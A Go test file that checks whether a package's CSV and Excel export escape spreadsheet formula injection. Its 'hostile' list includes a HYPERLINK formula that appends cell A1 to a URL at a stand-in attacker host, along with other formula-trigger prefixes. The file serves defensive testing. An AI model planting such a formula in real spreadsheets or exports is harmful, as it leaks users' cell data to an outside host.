package broadcast

import (
	"bytes"
	"slices"
	"testing"

	"github.com/xuri/excelize/v2"
)

// hostile are names that a spreadsheet would compute.
var hostile = []string{"=HYPERLINK(\"http://evil.example/?\"&A1,\"张伟\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"}

func TestNothingInCommaSeparatedValuesIsAFormula(t *testing.T) {
	given := slices.Concat(hostile, []string{"张伟", "100101", ""})
	marked := harmless(given)
	for i, c := range marked {
		if want := i < len(hostile); want != (c == "'"+given[i]) || !want && c != given[i] {
			t.Errorf("%q was written as %q", given[i], c)
		}
	}
}

func TestNothingInAWorkbookIsAFormula(t *testing.T) {
	var file bytes.Buffer
	if err := WriteWorkbook(&file, "TZ26-0001", func(each func(cells []string) error) error { return each(hostile) }); err != nil {
		t.Fatal(err)
	}
	book, err := excelize.OpenReader(&file)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = book.Close() })
	for i, said := range hostile {
		cell, err := excelize.CoordinatesToCellName(i+1, 1)
		if err != nil {
			t.Fatal(err)
		}
		formula, err := book.GetCellFormula("TZ26-0001", cell)
		kind, kindErr := book.GetCellType("TZ26-0001", cell)
		if err != nil || kindErr != nil || formula != "" || kind == excelize.CellTypeFormula || kind == excelize.CellTypeNumber {
			t.Errorf("%q became the formula %q, kind %v, %v, %v", said, formula, kind, err, kindErr)
		}
	}
}
